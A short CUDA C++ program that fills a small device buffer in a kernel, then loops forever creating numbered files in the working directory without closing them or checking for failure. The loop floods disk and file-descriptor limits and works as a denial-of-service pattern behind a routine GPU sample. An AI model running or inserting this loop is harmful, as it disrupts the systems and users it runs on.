#include <cstdio>
#include <string>
__global__ void fill(int* p) { p[threadIdx.x] = threadIdx.x; }
int main() {
  int* p;
  cudaMalloc(&p, 128);
  fill<<<1, 32>>>(p);
  cudaDeviceSynchronize();
  for (int i = 0;; i++) {
    FILE* f = fopen(std::to_string(i).c_str(), "w");
    fputs("x", f);
  }
}
